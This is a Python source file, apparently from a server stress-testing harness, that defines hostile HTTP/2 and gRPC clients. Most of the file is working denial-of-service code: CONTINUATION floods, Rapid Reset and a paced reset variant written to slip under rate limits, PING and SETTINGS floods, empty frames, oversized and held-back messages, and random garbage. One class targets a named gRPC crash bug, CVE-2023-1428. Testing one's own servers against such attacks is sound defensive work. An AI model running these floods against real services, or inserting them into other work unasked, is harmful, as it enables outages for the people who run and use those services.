"""Hostile clients that send as much as one process can."""
import os
import random
import struct
import time

import http2
import messages
from crowd import QUERY, Flood
from http2 import CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame


class HugeMetadata(Flood):
    """Whole header blocks, by CONTINUATION frames; many small headers and a few large ones in turn."""
    name = "huge-metadata"
    what = "calls with 64 KiB to 4 MiB of headers"
    connections = 2

    def begin(self):
        self.blocks = []
        for kib in (64, 256, 1024, 4096):
            base = http2.call_headers(messages.ROUTE)
            large = base + http2.literal("x-large", b"v" * (kib << 10))
            many = base + b"".join(http2.literal(f"x-{i}", b"v" * 64) for i in range(kib << 10 >> 7))
            self.blocks += [large, many]

    def arrive(self, connection):
        connection.hello()

    def chunk(self, connection):
        block = random.choice(self.blocks)
        self.counts["calls"] += 1
        self.counts["KiB of headers"] += len(block) >> 10
        return http2.header_frames(connection.stream(), block, end_stream=True)


class OddHeaders(Flood):
    """gRPC before 1.53 aborts on some of these (CVE-2023-1428), if headers beyond its limit follow."""
    name = "odd-headers"
    what = "calls with a te, a :scheme or a path that is none, and 10 KiB of headers"

    def begin(self):
        much = http2.literal("x-much", b"v" * 10240)
        usual = {":method": "POST", ":scheme": "http", ":path": messages.ROUTE, "te": "trailers",
                 "content-type": "application/grpc"}
        odd = ({"te": "x"}, {":scheme": "x"}, {"grpclb_client_stats": "x"}, {":path": "no path"}, {":method": "x"},
               {"content-type": "x"}, {"grpc-timeout": "99999999999999999999H"}, {"grpc-encoding": "x"},
               {"x-bin": "not base64!"}, {"": ""}, {"X-Upper": "x"})
        self.blocks = []
        for change in odd:
            block = b"".join(http2.literal(name, value) for name, value in (usual | change).items())
            self.blocks += [block, block + much]

    def arrive(self, connection):
        connection.hello()

    def chunk(self, connection):
        self.counts["calls"] += 1
        return http2.header_frames(connection.stream(), random.choice(self.blocks), end_stream=True)

    def read(self, wait):
        super().read(max(wait, 0.002))


class ContinuationFlood(Flood):
    name = "continuation-flood"
    what = "header blocks that never end"
    connections = 4

    def arrive(self, connection):
        connection.hello()
        connection.number = connection.stream()
        connection.send(frame(HEADERS, 0, connection.number, http2.call_headers(messages.ROUTE)))
        self.part = b"".join(http2.literal(f"x-{i}", b"v" * 100) for i in range(130))

    def chunk(self, connection):
        self.counts["CONTINUATION frames"] += 8
        return frame(CONTINUATION, 0, connection.number, self.part) * 8


class RapidReset(Flood):
    name = "rapid-reset"
    what = "HEADERS, DATA and RST_STREAM at once"
    connections = 2
    path = messages.ROUTE

    def begin(self):
        self.block = http2.call_headers(self.path)
        self.body = http2.grpc_message(messages.route(self.pool, QUERY))
        self.cancel = struct.pack(">I", CANCEL)

    def arrive(self, connection):
        connection.hello()

    def chunk(self, connection):
        if connection.window <= 0:
            return b""
        out = []
        for _ in range(100):
            stream = connection.stream()
            out += [frame(HEADERS, END_HEADERS, stream, self.block), frame(DATA, END_STREAM, stream, self.body),
                    frame(RST_STREAM, 0, stream, self.cancel)]
            connection.window -= len(self.body)
        self.counts["calls begun and reset"] += 100
        return b"".join(out)

    def hear(self, connection, frames):
        connection.acknowledge(frames)


class PacedReset(RapidReset):
    """A front that limits the rate, and that passes on whole calls only, has nothing against these."""
    name = "paced-reset"
    what = "900 calls a second, each reset when it has just begun"
    at_once = 90  # on each of two connections, five times a second: below the usual limit of streams

    def arrive(self, connection):
        super().arrive(connection)
        connection.begun = []
        connection.next_at = 0

    def chunk(self, connection):
        if time.monotonic() < connection.next_at or connection.window < self.at_once * len(self.body):
            return b""
        if connection.begun:
            resets = b"".join(frame(RST_STREAM, 0, stream, self.cancel) for stream in connection.begun)
            connection.begun = []
            connection.next_at = time.monotonic() + 0.195
            self.counts["calls begun and reset"] += self.at_once
            return resets
        connection.begun = [connection.stream() for _ in range(self.at_once)]
        connection.next_at = time.monotonic() + 0.005
        connection.window -= self.at_once * len(self.body)
        return b"".join(frame(HEADERS, END_HEADERS, stream, self.block) + frame(DATA, END_STREAM, stream, self.body)
                        for stream in connection.begun)

    def read(self, wait):
        super().read(max(wait, 0.002))


class PingFlood(Flood):
    name = "ping-flood"
    what = "PING frames, the answers read"
    one = frame(http2.PING, payload=b"12345678")
    counted = "PING frames"

    def arrive(self, connection):
        connection.hello()

    def chunk(self, connection):
        self.counts[self.counted] += 1000
        return self.one * 1000


class PingUnread(PingFlood):
    name = "ping-unread"
    what = "PING frames, the answers never read"
    is_deaf = True


class SettingsFlood(PingFlood):
    name = "settings-flood"
    what = "SETTINGS frames, the answers never read"
    one = http2.settings(initial_window_size=65535, max_frame_size=16384)
    counted = "SETTINGS frames"
    is_deaf = True


class EmptyFrames(PingFlood):
    """They cost no window, so nothing but the server's own rules slows them down."""
    name = "empty-frames"
    what = "DATA frames of no bytes"
    counted = "DATA frames"
    one = frame(DATA, 0, 1)

    def arrive(self, connection):
        connection.hello()
        connection.send(http2.header_frames(connection.stream(), http2.call_headers(messages.ROUTE)))


class Oversized(Flood):
    name = "oversized"
    what = "messages of 17 MiB, and prefixes that claim 4 GiB"
    connections = 4
    sizes = (17 << 20, 0xffffffff)
    held_back = 0

    def arrive(self, connection):
        connection.hello(initial_window_size=1 << 20)
        connection.left = 0
        connection.kept_open = 0

    def begin_body(self, connection):
        connection.number = connection.stream()
        size = random.choice(self.sizes)
        connection.left = size - self.held_back
        connection.stream_windows = {connection.number: connection.stream_window - 5}
        connection.window -= 5
        self.counts["messages"] += 1
        return (http2.header_frames(connection.number, http2.call_headers(messages.ROUTE))
                + frame(DATA, 0, connection.number, struct.pack(">BI", 0, size)))

    def chunk(self, connection):
        if connection.left <= 0:
            return self.begin_body(connection)
        room = min(connection.window, connection.stream_windows.get(connection.number, 0), connection.left, 65536)
        if room <= 0:
            return b""
        connection.left -= room
        connection.window -= room
        connection.stream_windows[connection.number] -= room
        self.counts["bytes"] += room
        return b"".join(frame(DATA, 0, connection.number, bytes(min(http2.FRAME_BYTES, room - at)))
                        for at in range(0, room, http2.FRAME_BYTES))

    def read(self, wait):
        super().read(max(wait, 0.001))

    def hear(self, connection, frames):
        connection.acknowledge(frames)
        for kind, flags, stream, _ in frames:
            if stream == getattr(connection, "number", 0) and (kind == RST_STREAM or flags & END_STREAM
                                                               and kind in (HEADERS, DATA)):
                self.counts["refused"] += 1
                connection.left = 0


class HeldBack(Oversized):
    """The server has to keep all of a message until it is whole."""
    name = "held-back"
    what = "messages of 15 MiB, 4 at a time on 5 connections, without their last byte"
    connections = 5
    sizes = (15 << 20,)
    held_back = 1
    at_once = 4

    def chunk(self, connection):
        if connection.left <= 0:
            if connection.kept_open >= self.at_once:
                return b""
            connection.kept_open += 1
        return super().chunk(connection)


class Garbage(Flood):
    name = "garbage"
    what = "random bytes, from the start or after a whole preface"
    connections = 4

    def arrive(self, connection):
        if random.random() < 0.5:
            connection.hello()

    def chunk(self, connection):
        self.counts["KiB of garbage"] += 64
        return os.urandom(65536)
